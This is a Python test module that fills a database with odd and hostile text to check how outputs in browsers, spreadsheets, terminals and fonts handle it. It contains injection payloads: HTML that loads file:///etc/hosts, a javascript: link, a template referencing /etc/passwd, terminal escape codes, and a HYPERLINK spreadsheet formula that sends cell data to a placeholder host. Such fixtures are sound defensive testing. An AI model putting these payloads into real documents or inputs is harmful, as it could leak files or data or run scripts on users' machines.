"""Texts that mean something to a browser, a spreadsheet, a terminal or a font, and texts that mean nothing."""

from tests.database.kinds.columns_of_texts import every_text, every_text_as
from tests.database.kinds.kind import answered, bound, either, script

_HTML = '<b>x</b><img src="file:///etc/hostname"><style>@import url(file:///etc/hosts)</style><a href="javascript:alert(1)">y</a>'
_ODD = {
    "NUL": "x\0y", "escape": "x\x1b[31my\x07", "bidi": "x\u202ey\u2066z\u200f", "noncharacters": "x\U0010ffffy\ufffez",
    "empty": "", "line breaks": "x\ny\u2028z\x85", "surrogate pairs": "🙂👩‍👩‍👧‍👦🇨🇳",
    "a template": '%s%n{0}{path}&amp;& #import "/etc/passwd" $x$ \\ @x *y* _z_',
}
_BROKEN = "cast(x'eda080ff41' as text)"
_NO_FONT = "char(27) || 'x'"

KINDS = (
    either("HTML in every text", every_text_as(f"'{_HTML}' || {{column}}")),
    *(either(f"{name} in every text", every_text(text)) for name, text in _ODD.items()),
    either("broken UTF-8 in every text", every_text_as(_BROKEN)),
    either("broken UTF-8 in one summary", script(f"update events set summary = {_BROKEN} where rowid = 9")),
    either("broken UTF-8 in one phrase", script(f"update figures set phrase = {_BROKEN} where rowid = 9")),
    either("HTML in themes and documents", script(
        f"update themes set name = '{_HTML}' || name, short = '{_HTML}' || short; update documents set short = '{_HTML}' || short"
    )),
    *(
        either(f"a character no font has in {column}", script("update {} set {} = {}".format(*column.split("."), _NO_FONT)))
        for column in ("indicators.name", "themes.short", "figures.unit", "figures.qualifier")
    ),
    either("no titles", script("update events set title = ''")),
    either("no title of the timeline", script("update timeline set title = ''")),
    either("no names of themes", script("update themes set name = '', short = ''")),
    answered("a title in English", script("update events set title = 'Plain' where rowid = 9")),
    answered("a title with a formula", bound("update events set title = ? where rowid = 9", '=HYPERLINK("http://x/?"&A1,"x")')),
    either("a title that colours a terminal", bound("update events set title = ? where rowid = 1", "\x1b[31mX\x07\nY")),
    answered("every title the same", script("update events set title = '同一个标题', short = '同一个'")),
)
